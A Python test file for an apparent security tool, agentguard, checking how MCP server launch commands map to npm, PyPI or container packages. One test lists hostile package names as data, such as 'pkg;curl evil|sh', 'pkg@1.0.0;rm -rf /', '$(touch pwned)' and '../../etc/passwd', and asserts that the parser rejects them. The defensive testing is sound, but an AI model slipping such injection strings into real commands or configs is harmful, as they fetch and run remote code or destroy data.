"""What a launch takes from a registry (facts.mcp_pins.launch_of), and what it refuses to
read as a package name (a path, a URL, shell text: never resolved, never written back)."""

from __future__ import annotations

import pytest

from agentguard.facts.agents import McpServer
from agentguard.facts.mcp_pins import ServerLaunch, Unreadable, launch_of


def server(command: str, *args: str) -> McpServer:
    return McpServer("s", ".mcp.json", 3, ".mcp.json", "stdio", command, tuple(args))


@pytest.mark.parametrize(
    ("argv", "want"),
    [
        (("npx", "-y", "@acme/tracker-mcp"), ("npm", "@acme/tracker-mcp", None, 1, "npx")),
        (("npx", "-y", "@acme/tracker-mcp@^1.2"), ("npm", "@acme/tracker-mcp", "^1.2", 1, "npx")),
        (("npx", "--yes", "pkg@latest", "--flag"), ("npm", "pkg", "latest", 1, "npx")),
        (("npx", "-p", "pkg@1.0.0", "server-bin"), ("npm", "pkg", "1.0.0", 1, "npx")),
        (("/usr/local/bin/bunx", "pkg"), ("npm", "pkg", None, 0, "bunx")),
        (("pnpm", "dlx", "pkg@2"), ("npm", "pkg", "2", 1, "pnpm dlx")),
        (("npm", "exec", "--", "pkg"), ("npm", "pkg", None, 2, "npm exec")),
        (("uvx", "mcp-server-fetch"), ("pypi", "mcp-server-fetch", None, 0, "uvx")),
        (
            ("uvx", "mcp-server-fetch@2025.4.7"),
            ("pypi", "mcp-server-fetch", "==2025.4.7", 0, "uvx"),
        ),
        (("uvx", "mcp-server-fetch@latest"), ("pypi", "mcp-server-fetch", None, 0, "uvx")),
        (
            ("uvx", "--from", "mcp-server-git>=1,<3", "mcp-server-git"),
            ("pypi", "mcp-server-git", ">=1,<3", 1, "uvx"),
        ),
        (("uvx", "--python", "3.12", "srv[cli]==1.0"), ("pypi", "srv", "==1.0", 2, "uvx")),
        (("uv", "tool", "run", "srv"), ("pypi", "srv", None, 2, "uv tool run")),
        (("pipx", "run", "--spec", "srv==1", "srv"), ("pypi", "srv", "==1", 2, "pipx run")),
        (
            ("docker", "run", "-i", "--rm", "-e", "T", "ghcr.io/acme/srv:1.4"),
            ("image", "ghcr.io/acme/srv", "1.4", 5, "docker run"),
        ),
    ],
)
def test_launches(argv: tuple[str, ...], want: tuple[object, ...]) -> None:
    got = launch_of(server(*argv))
    assert isinstance(got, ServerLaunch)
    assert (got.kind, got.package, got.requested, got.operand, got.launcher) == want


def test_image_digest_and_extras_are_kept_apart() -> None:
    digest = "sha256:" + "a" * 64
    got = launch_of(server("docker", "run", f"ghcr.io/acme/srv:1.4@{digest}"))
    assert isinstance(got, ServerLaunch) and (got.digest, got.requested) == (digest, "1.4")
    py = launch_of(server("uvx", "srv[cli,extra]>=2"))
    assert isinstance(py, ServerLaunch) and (py.package, py.extras, py.requested) == (
        "srv",
        "[cli,extra]",
        ">=2",
    )


@pytest.mark.parametrize(
    "argv",
    [
        ("npx", "-y", "../../etc/passwd"),
        ("npx", "-y", "@acme/../../x"),
        ("npx", "-y", "pkg;curl evil|sh"),
        ("npx", "-y", "$(touch pwned)"),
        ("npx", "-y", "pkg@1.0.0;rm -rf /"),
        ("npx", "-y", "git+https://example.invalid/x.git"),
        ("npx", "-y", "./local-server"),
        ("npx", "-y", "Pkg`id`"),
        ("uvx", "--from", "git+https://example.invalid/x", "srv"),
        ("uvx", "/abs/path/srv.whl"),
        ("uvx", "srv==1.0; touch x"),
        ("uvx", "srv @ file:///etc"),
        ("docker", "run", "-i", "IMAGE;id"),
        ("npx", "-y"),
    ],
)
def test_hostile_names_are_not_packages(argv: tuple[str, ...]) -> None:
    got = launch_of(server(*argv))
    assert isinstance(got, Unreadable), got


@pytest.mark.parametrize("argv", [("node", "server.js"), ("python", "-m", "srv"), ("./bin/srv",)])
def test_local_commands_take_nothing_from_a_registry(argv: tuple[str, ...]) -> None:
    assert launch_of(server(*argv)) is None
